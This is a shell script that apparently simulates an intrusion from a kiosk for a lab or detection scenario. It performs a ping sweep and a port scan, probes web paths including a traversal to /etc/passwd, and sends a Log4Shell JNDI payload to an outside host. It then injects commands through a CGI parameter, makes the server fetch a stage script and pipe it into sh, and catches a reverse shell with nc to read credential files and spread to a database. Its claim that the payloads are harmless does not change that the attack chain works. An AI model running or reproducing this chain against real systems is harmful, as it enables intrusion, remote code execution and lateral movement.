#!/bin/sh
# intrude.sh - the intrusion, run on the kiosk: looks around, breaks into the web front end, uses it from there.
# Prints a line per step: seconds since the epoch, then what begins. Harmless: every program it moves does nothing.
. /opt/sample/settings.sh
step() { echo "$(date +%s) $*"; }
own=$(ip -4 -o addr show eth0 | awk '{sub("/.*", "", $4); print $4}')
net=${own%.*}
mkdir -p /tmp/kit
cd /tmp/kit || exit 1
sed "s/@KIOSK@/$own/g; s/@OUTSIDE@/$OUTSIDE/g" /opt/sample/stage.sh >stage.sh
sed "s/@KIOSK@/$own/g; s/@OUTSIDE@/$OUTSIDE/g" /opt/sample/spread.sh >spread.sh

step "ping sweep of $net.0/24"
host=1
while [ $host -lt 255 ]; do
  ping -c 1 -W 1 "$net.$host" >"ping.$host" 2>&1 &
  [ $((host % 12)) = 0 ] && wait
  host=$((host + 1))
done
wait
alive=$(grep -l ' bytes from' ping.* | sed "s/ping/$net/" | grep -vx "$own")

step "port scan of" $alive
for address in $alive; do
  for port in 21 22 23 25 53 80 81 110 111 135 139 143 389 443 445 465 587 636 873 993 995 1433 1521 2049 2222 2375 3000 \
    3128 3306 3389 5000 5432 5601 5672 5900 5984 5985 6379 7001 8000 8008 8080 8081 8088 8443 8888 9000 9090 9200 9300 \
    11211 27017 50000 50070; do
    nc -w 1 "$address" $port </dev/null >/dev/null 2>&1
  done
done

step "looks for holes of $WEB_NAME"
web=$(nslookup "$WEB_NAME" | awk '/^Address: /{print $2; exit}')
agent='Mozilla/5.0 zgrab/0.x'
for path in robots.txt .env .git/config admin/ phpmyadmin/ server-status wp-login.php backup.zip cgi-bin/test cgi-bin/../../../../etc/passwd; do
  wget -q -O /dev/null -U "$agent" "http://$web/$path"
done
wget -q -O /dev/null -U "\${jndi:ldap://$OUTSIDE:1389/o=shop}" "http://$web/"
sleep 4
wget -q -O answer -U "$agent" "http://$web/cgi-bin/track?carrier=parcels.example.com%3Bid"
grep uid= answer

step "has $WEB_NAME fetch and run a script"
httpd -p 8000 -h /tmp/kit
# What is typed into the shell that will call here.
{
  sleep 9; echo 'id; hostname'
  sleep 6; echo 'cat /etc/passwd; netstat -tn'
  sleep 45; echo "wget -q -O spread.sh http://$own:8000/spread.sh"
  sleep 2; echo "sh spread.sh $DATABASE_NAME"
  sleep "$SHELL_SECONDS"; echo 'exit'
} | nc -l -p 4444 >shell.log 2>&1 &
wget -q -O answer -U "$agent" "http://$web/cgi-bin/track?carrier=x%3Bwget%20-q%20-O-%20http%3A%2F%2F$own%3A8000%2Fstage.sh%7Csh"
wait
kill $(pidof httpd)
step 'the shell is closed; what runs on the web front end stays'
